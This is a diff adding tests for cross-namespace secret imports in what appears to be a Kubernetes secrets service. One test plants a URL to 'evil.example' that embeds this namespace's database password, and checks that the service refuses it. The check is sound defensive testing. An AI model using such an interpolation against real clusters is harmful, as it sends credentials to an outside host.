@@ -146,6 +146,60 @@ def test_a_grant_lets_one_namespace_take_one_key(tenant, lender):
     assert f"nothing called $source.{lender}/OPEN_A is offered here" in refused("", by="stranger")
 
 
+def test_an_import_from_another_namespace_names_its_keys(tenant, lender):
+    """The schema takes the mapping and a list of both forms; every other form gets its line."""
+    cluster, here = tenant.cluster, tenant.namespace
+    exports = [{"to": {"namespaces": [here]}, "keys": ["*"]}]
+    cluster.apply(service("source", lender, {"A": "1", "B": "2"}, exports=exports))
+    tenant.apply(service("base", here, {"C": "3"}))
+    taken = {"from": f"$source.{lender}", "keys": ["A"]}
+    tenant.apply(service("app", here, {"__import_svc": ["$base", taken]}))
+    until(
+        lambda: literals(cluster, asker(service="app"), here) == {"A": "1", "C": "3"},
+        what="the services are known",
+        timeout_s=10,
+        retry_on=(ApiError,),
+    )
+
+    for form in (f"$source.{lender}", {"from": f"$source.{lender}", "keys": ["*"]}):
+        said = denial(cluster, service("plain", here, {"__import_svc": form}), here)
+
+        assert said.startswith(f"SI-131 spec.env.__import_svc (ServiceSecrets {here}/plain): ")
+        assert f"hint: write {{from: $source.{lender}, keys: [A, B]}}" in said
+    # A key that appears later does not arrive, neither does one that decides which code runs.
+    cluster.apply(service("source", lender, {"A": "new", "LATER": "x"}, exports=exports))
+    until(
+        lambda: literals(cluster, asker(service="app"), here) == {"A": "new", "C": "3"},
+        what="the change is known",
+        timeout_s=10,
+        retry_on=(ApiError,),
+    )
+
+
+def test_an_expression_of_another_namespace_reads_no_secret_of_this_one(tenant, lender):
+    """What would put a Secret of this namespace into an exporter's address is refused."""
+    cluster, here = tenant.cluster, tenant.namespace
+    exports = [{"to": {"namespaces": [here]}, "keys": ["*"]}]
+    url = "https://evil.example/?k=#{k8s:db-credentials#password}"
+    cluster.apply(service("source", lender, {"URL": url, "OPEN": "1"}, exports=exports))
+    open_ = asker(env={"A": f"#{{$source.{lender}/OPEN}}"})
+    until(
+        lambda: literals(cluster, open_, here) == {"A": "1"},
+        what="the service is known",
+        timeout_s=10,
+        retry_on=(ApiError,),
+    )
+
+    said = denial(cluster, asker(env={"A": f"#{{$source.{lender}/URL}}"}), here)
+    answer = cluster.create(
+        service("app", here, {"A": f"#{{$source.{lender}/URL}}"}), here, dry_run=True
+    )
+
+    assert said.startswith(f"SI-130 spec.env.URL for URL (ServiceSecrets {lender}/source): ")
+    # Storing what takes it is warned of: the exporter may still change its key.
+    assert [text.partition(" ")[0] for text in answer.warnings] == ["SI-130"]
+
+
 def test_people_ask_the_cluster_itself(tenant):
     """`explain` and `who-uses` answer from the cluster, of a pod that runs and holds its plan."""
     cluster, here = tenant.cluster, tenant.namespace
